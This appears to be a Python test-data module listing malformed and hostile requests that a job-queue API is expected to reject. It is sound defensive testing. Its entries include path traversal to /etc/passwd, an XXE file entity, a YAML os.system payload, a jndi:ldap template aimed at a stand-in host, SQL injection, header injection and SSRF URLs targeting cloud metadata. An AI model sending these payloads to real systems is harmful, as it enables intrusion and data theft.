"""What users send: bodies, names, numbers, texts, moments. What does not fit is refused by name, and never a fault."""

from __future__ import annotations

from typing import Any, Final
from urllib.parse import quote

from tests.abuse.attempts import Asks, Attempt

JSON: Final = "Content-Type"
DEEP: Final = 952


def _job(**fields: Any) -> dict[str, Any]:
    return {"project_id": "shop", "input": {}, **fields}


def _refused(says: str = "", **fields: Any) -> Asks:
    """A submission with one field that does not fit; it is named."""
    return Asks("POST /v1/jobs", json=_job(**fields), gets=422, says=says or next(iter(fields)))


def _raw(body: bytes, gets: int = 422, *, line: str = "POST /v1/jobs", says: str = "") -> Asks:
    return Asks(line, content=body, gets=gets, says=says)


def _typed(content_type: str, body: bytes = b'{"project_id": "shop", "input": {}}') -> Asks:
    return Asks("POST /v1/jobs", content=body, headers=((JSON, content_type),), gets=422)


def _input(value: bytes) -> bytes:
    return b'{"project_id": "shop", "input": {"a": %s}}' % value


def _asked(query: str, gets: int = 422, path: str = "jobs", who: str = "ann") -> Asks:
    return Asks(f"GET /v1/{path}?{query}", gets=gets, who=who)


def _at(path: str, gets: int = 404) -> Asks:
    return Asks(f"GET /v1/jobs/{path}", gets=gets)


def _texts(**texts: str) -> dict[str, Attempt]:
    """Each text in each place that others read."""
    return {
        f"{name.replace('_', ' ')} in {place}": attempt
        for name, text in texts.items()
        for place, attempt in {
            "a project": _refused(project_id=f"a{text}b"),
            "a label": _refused(labels={"k": f"a{text}b"}),
            "a reason": Asks(
                "POST /v1/jobs/<queued>/cancel", json={"reason": f"a{text}b"}, gets=422, says="control characters"
            ),
        }.items()
    }


def _reasons() -> dict[str, Attempt]:
    """A control of each kind where each act is given its reason; resuming takes the body of pausing."""
    acts: dict[str, tuple[str, dict[str, Any] | None]] = {
        "of many jobs": ("POST /v1/jobs/cancel", {"project": "shop"}),
        "of a workflow": ("POST /v1/workflows/w/cancel", {}),
        "of a priority": ("PATCH /v1/jobs/<queued>", {"priority": "low"}),
        "of a move": ("POST /v1/queue/move", {"job_id": "<queued>", "before": "j"}),
        "of a pause": ("POST /v1/queue/pause", {"scope": "all"}),
        "of a revocation": ("POST /v1/tokens/revoke", {"jti": "lost"}),
        "of a limit": ("PUT /v1/concurrency/db", {"limit": 3}),
        "of a limit that is unset": ("DELETE /v1/concurrency/db", None),
        "of a slot that is forced free": ("DELETE /v1/concurrency/db/leases/x", None),
        "of an erasure": ("DELETE /v1/users/bob/content", None),
    }
    return {
        f"{name} {act}": Asks(line, who="olga", json={**body, "reason": f"a{text}b"}, gets=422, says="reason")
        if body is not None
        else Asks(f"{line}?reason=a{quote(text)}b", who="olga", gets=422, says="reason")
        for act, (line, body) in acts.items()
        for name, text in (("escape", "\x1b"), ("a C1 control", "\x9b"))
    }


TABLE: Final[dict[str, dict[str, Attempt]]] = {
    "a body is JSON": {
        "nothing": _raw(b""),
        "white space": _raw(b" \n"),
        "a word": _raw(b"job"),
        "cut in the middle": _raw(b'{"project_id": "sh'),
        "two values": _raw(b'{"project_id": "shop", "input": {}} {}'),
        "a comma too many": _raw(b'{"project_id": "shop", "input": {},}'),
        "single quotes": _raw(b"{'project_id': 'shop', 'input': {}}"),
        "a comment": _raw(b'{"project_id": "shop", /* */ "input": {}}'),
        "a raw control character in a text": _raw(b'{"project_id": "sh\x01op", "input": {}}'),
        "UTF-16": _raw('{"project_id": "shop"}'.encode("utf-16")),
        "no UTF-8": _raw(b'{"project_id": "\xff\xfe", "input": {}}', 400),
        "an overlong slash": _raw(b'{"project_id": "a\xc0\xafb", "input": {}}', 400),
        "half a character": _raw(rb'{"project_id": "\ud800", "input": {}}'),
        "half a character in the input": _raw(_input(rb'"\udfff"')),
        "half a character as a key": _raw(rb'{"project_id": "shop", "input": {"\ud800": 1}}'),
        "null": _raw(b"null"),
        "a list": _raw(b"[]"),
        "a number": _raw(b"7"),
        "compressed": Asks(
            "POST /v1/jobs", content=b"\x1f\x8b\x08\x00", headers=(("Content-Encoding", "gzip"),), gets=400
        ),
    },
    "a number is one that JSON has": {
        "NaN": _raw(_input(b"NaN")),
        "Infinity": _raw(_input(b"Infinity")),
        "minus Infinity": _raw(_input(b"-Infinity")),
        "1e309": _raw(_input(b"1e309")),
        "minus 1e309": _raw(_input(b"-1e309")),
        "hexadecimal": _raw(_input(b"0x10")),
        "a plus": _raw(_input(b"+1")),
        "a leading zero": _raw(_input(b"01")),
        "a point and nothing": _raw(_input(b"1.")),
        "an integer of 5,000 digits": _raw(_input(b"1" * 5000), 400),
        "NaN in a workflow": _raw(
            b'{"project_id": "shop", "phases": [{"input": {"a": NaN}}]}', line="POST /v1/workflows"
        ),
        "NaN in a list of the input": _raw(_input(b"[[NaN]]")),
        "NaN as a limit": Asks("PUT /v1/concurrency/db", who="olga", content=b'{"limit": NaN}', gets=422),
        "1e309 as a limit": Asks("PUT /v1/concurrency/db", who="olga", content=b'{"limit": 1e309}', gets=422),
    },
    "numbers have bounds": {
        **{
            f"concurrency_limit {value!r:.20}": _refused(concurrency_limit=value, concurrency_group="db")
            for value in (0, -1, 10_001, 2**63, 10**40, 1.5, "many", [1])
        },
        **{f"queue_ttl_s {value!r:.20}": _refused(queue_ttl_s=value) for value in (0, -1, 2**31, 1e300, "soon", {})},
        **{f"run_timeout_s {value!r:.20}": _refused(run_timeout_s=value) for value in (0, 2**31, -(2**63), "never")},
    },
    "names are of one alphabet": {
        "a pool with a wildcard of NATS": _refused(pool="*"),
        "a pool of all that follows": _refused(pool=">"),
        "a pool with a dot": _refused(pool="default.x"),
        "a pool with a space": _refused(pool="default x"),
        "a pool with a line": _refused(pool="default\nPUB x 0"),
        "a pool with a null character": _refused(pool="default\0"),
        "a pipeline that is a path": _refused(pipeline="../../etc/passwd"),
        "a pipeline that is a module": _refused(pipeline="os.system"),
        "a pipeline in another script": _refused(pipeline="ｂｕｉｌｄ"),
        "an empty pipeline": _refused(pipeline=""),
        "a pipeline of 65 characters": _refused(pipeline="p" * 65),
        "a group with the key of another": _refused(concurrency_group="{hg:main}:x"),
        "a group with a colon": _refused(concurrency_group="user:bob"),
        "a group with a letter that only looks like one": _refused(concurrency_group="dаb"),
        "a label whose name is a path": _refused("labels", labels={"../x": "y"} | {"a b": "c"}),
        "a label without a name": _refused("labels", labels={"": "y"}),
        "a workflow with a wildcard": Asks("POST /v1/jobs/cancel", json={"workflow": "w.>"}, gets=422),
        "a label of a bulk cancel without a value": Asks("POST /v1/jobs/cancel", json={"label": "x"}, gets=422),
    },
    "fields are known and of their kind": {
        "a field that nobody knows": _refused("owner", owner="bob"),
        "the owner of the job": _refused("user_id", user_id="bob"),
        "a tier": _refused("tier", tier="cto_scale"),
        "a status": _refused("status", status="ready"),
        "__proto__": _refused("__proto__", __proto__={"admin": True}),
        "__class__": _refused("__class__", __class__="x"),
        "no input": Asks("POST /v1/jobs", json={"project_id": "shop"}, gets=422, says="input"),
        "an input that is a list": _refused(input=[]),
        "an input that is a text": _refused(input="{}"),
        "a project that is a number": _refused(project_id=7),
        "a project that is an object": _refused(project_id={"$ne": None}),
        "a project that is null": _refused(project_id=None),
        "an empty project": _refused(project_id=""),
        "a project of 257 characters": _refused(project_id="p" * 257),
        "labels that are a list": _refused(labels=["a"]),
        "a label that is a number": _refused("labels", labels={"a": 7}),
        "a priority of one's own": _refused(priority="highest"),
        "a priority in capitals": _refused(priority="HIGH"),
        "a priority above the tier": _refused(priority="urgent"),
        "a priority that is a number": _refused(priority=0),
    },
    "a text is one line": _texts(
        a_null_character="\0",
        a_line_feed="\n",
        a_carriage_return="\r",
        escape="\x1b[2J",
        a_bell="\x07",
        delete="\x7f",
    ),
    "a reason is one line": _reasons(),
    "an input has a size and a depth": {
        "64 KiB and a little": _raw(_input(b'"' + b"a" * 65_536 + b'"')),
        "952 levels": _raw(_input(b'{"a":' * DEEP + b"1" + b"}" * DEEP)),
        "33 levels": _raw(_input(b"[" * 32 + b"]" * 32)),
        "952 lists": _raw(_input(b"[" * DEEP + b"]" * DEEP)),
        "100,000 lists that nobody closes": _raw(b"[" * 100_000),
        "deep, in a batch": _raw(
            b'{"jobs": [' + _input(b"[" * 40 + b"]" * 40) + b"]}", line="POST /v1/jobs/batch", says="32 deep"
        ),
        "deep, in a workflow": _raw(
            b'{"project_id": "p", "phases": [{"input": {"a":' + b"[" * 40 + b"]" * 40 + b"}}]}",
            line="POST /v1/workflows",
            says="32 deep",
        ),
        "deep, where a reason belongs": _raw(
            b'{"reason": ' + b"[" * 40 + b"]" * 40 + b"}", line="POST /v1/jobs/<queued>/cancel", says="32 deep"
        ),
        "brackets in a text that never ends": _raw(b'{"project_id": "' + b"[" * 1000),
        "17 labels": _refused(labels={f"l{number}": "x" for number in range(17)}),
        "a label of 200 characters": _refused("labels", labels={"k": "v" * 200}),
        "a reason of 501 characters": Asks("POST /v1/jobs/<queued>/cancel", json={"reason": "r" * 501}, gets=422),
        "no phases": Asks("POST /v1/workflows", json={"project_id": "p", "phases": []}, gets=422),
        "51 phases": Asks("POST /v1/workflows", json={"project_id": "p", "phases": [{"input": {}}] * 51}, gets=422),
        "an empty batch": Asks("POST /v1/jobs/batch", json={"jobs": []}, gets=422),
        "101 jobs": Asks("POST /v1/jobs/batch", json={"jobs": [_job()] * 101}, gets=422),
    },
    "a body says what it is": {
        "text/plain, as another site's form may send": _typed("text/plain"),
        "a form": _typed("application/x-www-form-urlencoded", b"project_id=shop&input=%7B%7D"),
        "a form in parts": _typed(
            "multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb'
        ),
        "XML with an entity": _typed(
            "application/xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
        ),
        "YAML": _typed("application/yaml", b"!!python/object/apply:os.system [id]"),
        "no type": _typed("", b'{"project_id": "shop", "input": {}}'),
        "a type that is none": _typed("json"),
        "a pickle": _typed("application/octet-stream", b"\x80\x04\x95"),
    },
    "moments are moments": {
        "run_at of an hour that is not": _refused(run_at="2030-01-01T25:00:00Z"),
        "run_at without a time zone": _refused(run_at="2030-01-01T00:00:00"),
        "run_at in words": _refused(run_at="tomorrow"),
        "run_at in the year 10000": _refused(run_at="10000-01-01T00:00:00Z"),
        "run_at of 1e300": _refused(run_at=1e300),
        "run_at further than is promised": _refused(run_at="2099-01-01T00:00:00Z"),
        "run_at as an object": _refused(run_at={"$date": 0}),
        "since as a fraction": _asked("since=0.5", path="audit", who="olga"),
        "since as a number": _asked("since=1700000000", path="audit", who="olga"),
        "since in the far future": _asked("since=99999-01-01T00:00:00Z", path="audit", who="olga"),
        "since as NaN": _asked("since=NaN", path="audit", who="olga"),
        "since without a time zone": _asked("since=2026-01-01T00:00:00", path="audit", who="olga"),
    },
    "a question asks what there is": {
        "limit 0": _asked("limit=0"),
        "limit 101": _asked("limit=101"),
        "limit of 40 digits": _asked("limit=" + "9" * 40),
        "limit NaN": _asked("limit=NaN"),
        "a limit in Arabic digits": _asked("limit=%D9%A3%D9%A3%D9%A3%D9%A3"),
        "a status that is none": _asked("status=root"),
        "a project with a line": _asked("project=a%0Ab"),
        "a project that is too long": _asked("project=" + "p" * 300),
        "a workflow with a wildcard": _asked("workflow=*"),
        "a parameter that nobody knows": _asked("owner=bob"),
        "another's jobs, by somebody who is no operator": _asked("user=bob", gets=403),
        "a parameter in brackets": _asked("status[$ne]=ready"),
        "a cursor that is none": _asked("cursor=abc"),
        "a cursor of half a character": _asked("cursor=%ED%A0%80"),
        "a cursor that is too long": _asked("cursor=" + "c" * 300),
        "dry_run maybe": Asks("POST /v1/jobs?dry_run=maybe", json=_job(), gets=422),
        "a log after half a line": _asked("log_after=1.5", path="jobs/<running>/stream"),
        "a log after -1": _asked("log_after=-1", path="jobs/<running>/stream"),
        "a ticket of 42 characters": Asks(f"GET /v1/stream?ticket={'t' * 42}", who=None, gets=422),
    },
    "a path names a job or nothing": {
        "a dot": _at("%2e", 422),
        "up": _at("..%2f..%2fetc%2fpasswd"),
        "up, with dots as they are": _at("../../../etc/passwd"),
        "up, backwards": _at("..%5c..%5cwin.ini", 422),
        "a null character": _at("a%00b", 422),
        "a line": _at("a%0d%0aX-Evil:%20yes", 422),
        "a wildcard": _at("*", 422),
        "all that follows": _at("%3E", 422),
        "a dot inside": _at("a.b", 422),
        "no UTF-8": _at("%ff%fe", 422),
        "41 characters": _at("j" * 41, 422),
        "SQL": _at("1'%20OR%20'1'='1", 422),
        "a key of the view": _at("%7Bhg:main%7D:jobs", 422),
        "letters of full width": _at("%EF%BD%8A%EF%BD%8F%EF%BD%82", 422),
        "a template": _at("$%7Bjndi:ldap:%2F%2Fevil%7D"),
        "a file beside the page": Asks("GET /assets/../api.py", gets=404, who=None),
        "a file beside the page, escaped": Asks("GET /assets/%2e%2e/pages.py", gets=404, who=None),
        "a file beside the page, escaped twice": Asks("GET /assets/%252e%252e/pages.py", gets=404, who=None),
        "a file of the machine": Asks("GET /assets//etc/passwd", gets=404, who=None),
    },
    "a notify_url is of a listed host": {
        name: _refused(notify_url=url)
        for name, url in {
            "the machine itself": "http://127.0.0.1/",
            "the machine by its name": "http://localhost/",
            "the machine in IPv6": "http://[::1]/",
            "the machine as a number": "http://2130706433/",
            "the machine in octal": "http://0177.0.0.1/",
            "any address": "http://0.0.0.0/",
            "metadata": "http://169.254.169.254/latest/",
            "metadata in IPv6": "http://[fd00:ec2::254]/",
            "a listed name as a user": "http://hooks.example@evil.example/",
            "a listed name as a password": "http://x:hooks.example@evil.example/",
            "a listed name as the beginning": "http://hooks.example.evil.example/",
            "a listed name as the end": "http://evilhooks.example/",
            "a listed name and a port": "http://hooks.example:6379/",
            "a listed name and a backslash": "http://evil.example\\@hooks.example/",
            "a file": "file:///etc/passwd",
            "gopher": "gopher://hooks.example/",
            "a script": "javascript:alert(1)",
            "no scheme": "//hooks.example/",
            "a line in it": "http://hooks.example/\r\nX: y",
            "another letter that looks like it": "http://hооks.example/",
        }.items()
    },
    "a condition is read as it stands": {
        name: Asks(
            "PATCH /v1/jobs/<queued>", who="olga", json={"priority": "low"}, gets=gets, headers=(("If-Match", tag),)
        )
        for name, (tag, gets) in {
            "no tag": ("7", 400),
            "a tag that nobody gave": ('"999999"', 412),
            "a weak tag": ('W/"1"', 412),
            "a tag that does not end": ('"7', 400),
            "two that are no list": ('"7" "8"', 400),
            "with a zero before it": ('"0001"', 412),
            "nothing": ("", 400),
        }.items()
    },
    "a header means one thing": {
        f"two of {name}": Asks(line, gets=400, headers=((name, one), (name, other)), says="", json=body)
        for name, line, one, other, body in (
            ("Idempotency-Key", "POST /v1/jobs", "a", "b", {"project_id": "p", "input": {}}),
            ("Content-Type", "POST /v1/jobs", "application/json", "text/plain", {"project_id": "p", "input": {}}),
            ("Range", "GET /v1/jobs/<ready>/result", "bytes=0-0", "bytes=1-1", None),
            ("If-Range", "GET /v1/jobs/<ready>/result", '"a"', '"b"', None),
            ("Last-Event-ID", "GET /v1/stream", "1", "2", None),
        )
    },
    "a part of a result is a part of it": {
        "beyond its end": Asks("GET /v1/jobs/<ready>/result", gets=416, headers=(("Range", "bytes=99999999999-"),)),
    },
}
